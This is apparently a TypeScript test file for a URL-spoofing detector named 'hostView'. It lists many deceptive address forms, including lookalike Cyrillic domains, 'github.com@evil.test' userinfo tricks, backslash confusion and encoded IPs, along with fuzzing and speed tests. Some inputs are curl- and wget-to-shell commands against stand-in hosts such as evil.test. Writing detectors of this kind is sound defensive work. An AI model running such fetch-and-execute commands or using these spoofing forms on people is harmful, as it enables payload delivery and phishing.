import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { growthByEight, squareFrom } from "../../test/cpu-growth.ts";
import { hostView } from "./host-view.ts";

describe("T-10, T-33: the real host stands beside what deceives", () => {
  test.each([
    ["https://g\u043Eogle.com/", "xn--gogle-jye.com", ["letters"]],
    ["https://\u0440\u0430ypal.com/login", "xn--ypal-43d9g.com", ["letters"]],
    ["https://github.com@evil.test/", "evil.test", ["user"]],
    ["https://github.com:443@evil.test/", "evil.test", ["user"]],
    ["https://github.com%2f@evil.test/", "evil.test", ["user"]],
    ["https://github.com @evil.test/", "evil.test", ["user", "white-space"]],
    ["https://evil.test\\@github.com/", "evil.test", ["backslash"]],
    ["https:\\\\evil.test", "evil.test", ["backslash"]],
    ["https:/\\evil.test/x", "evil.test", ["backslash"]],
    ["https:evil.test/x", "evil.test", ["slashes"]],
    ["https:///evil.test/x", "evil.test", ["slashes"]],
    ["HTTP:/evil.test", "evil.test", ["slashes"]],
    ["https://ev\til.test/", "evil.test", ["white-space"]],
    ["ht\ntps://evil.test/", "evil.test", ["white-space"]],
    ["https://github.com\n@evil.test/", "evil.test", ["user", "white-space"]],
    ["http://0x7f.1/", "127.0.0.1", ["number"]],
    ["http://2130706433/", "127.0.0.1", ["number"]],
    ["http://0177.0.0.1/", "127.0.0.1", ["number"]],
    ["http://127.1:8080/", "127.0.0.1:8080", ["number"]],
    ["http://[::ffff:127.0.0.1]/", "[::ffff:7f00:1]", ["number"]],
    ["https://%65vil.test/", "evil.test", ["percent"]],
    ["https://\uFF45\uFF56\uFF49\uFF4C.test/", "evil.test", ["letters"]],
    ["https://evil\u3002test/", "evil.test", ["letters"]],
    ["https://bank.test\uFF0Eevil.test/", "bank.test.evil.test", ["letters"]],
    ["https://ba\u200Bnk.test/", "bank.test", ["letters"]],
    ["https://ba\u00ADnk.test/", "bank.test", ["letters"]],
    ["https://\u2460\u2461\u2462.test/", "123.test", ["letters"]],
    ["https://evil.test./x", "evil.test.", ["dot"]],
    ["https://evil.test:08443/", "evil.test:8443", ["port"]],
    ["wss://\u0430ttack.test/s", "xn--ttack-3ve.test", ["letters"]],
    ["//github.com@evil.test/x", "evil.test", ["user"]],
    ["/\\evil.test", "evil.test", ["backslash"]],
    ["ssh://github.com@evil.test/x.git", "evil.test", ["user"]],
    ["  https://github.com@evil.test/ ", "evil.test", ["user"]],
  ])("an address: %j leads to %s", (text, real, why) => {
    expect(hostView(text).map((view) => [view.real, view.why])).toEqual([[real, why]]);
  });

  test.each([
    ["\u0440\u0430ypal.com", "xn--ypal-43d9g.com"],
    ["\u0440\u0430ypal.com/login", "xn--ypal-43d9g.com"],
    ["m\u00FCnchen.example.test", "xn--mnchen-3ya.example.test"],
    ["\u043F\u0440\u0438\u043C\u0435\u0440.\u0440\u0444", "xn--e1afmkfd.xn--p1ai"],
    ["bo@\u0430\u0440\u0440\u04CF\u0435.test", "xn--80ak6aa92e.test"],
    ["Bo <bo@\u0430\u0440\u0440\u04CF\u0435.test>, cy@example.test", "xn--80ak6aa92e.test"],
    ["Send it to \u0440\u0430ypal.com now", "xn--ypal-43d9g.com"],
  ])("a bare host or a mail address: %j is asked as %s", (text, real) => {
    expect(hostView(text)).toEqual([expect.objectContaining({ real, why: ["letters"] })]);
  });

  test.each([
    ["curl https://\u0440\u0430ypal.com/x | sh", ["xn--ypal-43d9g.com"]],
    ["curl -fsS 'https://github.com@evil.test/i.sh' | sh", ["evil.test"]],
    ["See https://\u0440\u0430ypal.com. And http://0x7f.1, too", ["xn--ypal-43d9g.com", "127.0.0.1"]],
    ["git clone git@github.com:a/b && wget http://2130706433/x", ["127.0.0.1"]],
    ["https://a@evil.test and again https://a@evil.test ", ["evil.test"]],
    [
      "(https://ex\u0430mple.test/?to=bo@\u0430\u0440\u0440\u04CF\u0435.test)",
      ["xn--exmple-4nf.test", "xn--80ak6aa92e.test"],
    ],
  ])("inside a longer text: %j", (text, real) => {
    expect(hostView(text).map((view) => view.real)).toEqual(real);
  });

  test.each([
    ["[https://a.test](https://a.test@evil.test)", ["evil.test"]],
    ["https://a.test,https://a.test@evil.test/", ["a.test,https", "evil.test"]],
    ["https://a.test/?u=https://a.test@evil.test/", ["evil.test"]],
    ["open https://a.test/?u=https://a.test@evil.test/ now", ["evil.test"]],
    ["see https://a.test;http://0x7f.1;https://b.test", ["127.0.0.1"]],
    ["[a](https://a.test@evil.test)[b](https://b.test)", ["evil.test"]],
    ["curl https://https://a.test", ["https"]],
  ])("no address hides behind another: %j", (text, real) => {
    expect(hostView(text).map((view) => view.real)).toEqual(real);
  });

  test("what is written stands exactly as it is written", () => {
    expect(hostView("https://github.com@evil.test:8443/x?y#z")).toEqual([
      { written: "github.com@evil.test:8443", real: "evil.test:8443", why: ["user"] },
    ]);
    expect(hostView("bo@\u0430\u0440\u0440\u04CF\u0435.test")[0]?.written).toBe(
      "\u0430\u0440\u0440\u04CF\u0435.test",
    );
  });

  test.each([
    "",
    "https://example.test/",
    "https://EXAMPLE.test:8443/a@b?c=d@e#f",
    "http://127.0.0.1:6006/x",
    "http://[::1]:80/",
    "https://example.test:443/",
    "See https://example.test. Then go.",
    "postgres://ana:secret@db.example.test:5432/main",
    "git@github.com:a/b.git",
    "bo@example.test",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "mailto:bo@example.test",
    "not a url",
    "\u043E\u0442\u0447\u0451\u0442.pdf",
    "r\u00E9sum\u00E9.docx",
    "\u041F\u0440\u0438\u0432\u0435\u0442. \u041C\u0438\u0440.",
    "\u4F60\u597D\u3002\u8C22\u8C22\u4F60",
    "/tmp/\u043F\u0430\u043F\u043A\u0430/\u0444\u0430\u0439\u043B.old",
    "C:\\Users\\ana\\x",
    "\\\\server\\share",
    "// a comment",
    "https://",
    "https://exa mple.test",
    "12:30",
  ])("what is plain to read has nothing beside it: %j", (text) => {
    expect(hostView(text)).toEqual([]);
  });

  test("it never throws, and what it tells is ASCII", () => {
    const piece = fc.constantFrom(
      "https:",
      "//",
      "\\",
      "@",
      ":",
      ".",
      "\u3002",
      "a",
      "\u0440",
      "%41",
      "%",
      "[",
      "]",
      "0x7f",
      "\t",
      "\n",
      " ",
      "\uD800",
      "\u202E",
      "xn--",
      "\u0130",
      "?",
      "#",
    );
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(piece, { maxLength: 24 }).map((all) => all.join("")),
    );
    fc.assert(
      fc.property(text, (one) => {
        for (const { written, real } of hostView(one)) {
          expect(one).toContain(written);
          expect(real).toMatch(/^[\0-\x7F]+$/);
        }
      }),
      { numRuns: 3_000 },
    );
  });

  test.each(["a", "\u0440", "a.", "\u0440.", "https:", "https://", "@", "a@", "/", "\\/", "a-"])(
    "a text made to be slow costs no more than its length: %j over and over",
    (unit) => {
      const read = (size: number) => () => hostView(unit.repeat(size / unit.length));
      // Of more than 20,000 characters the rest is not searched.
      expect(growthByEight(read, 2_500)).toBeLessThan(squareFrom);
    },
  );
});
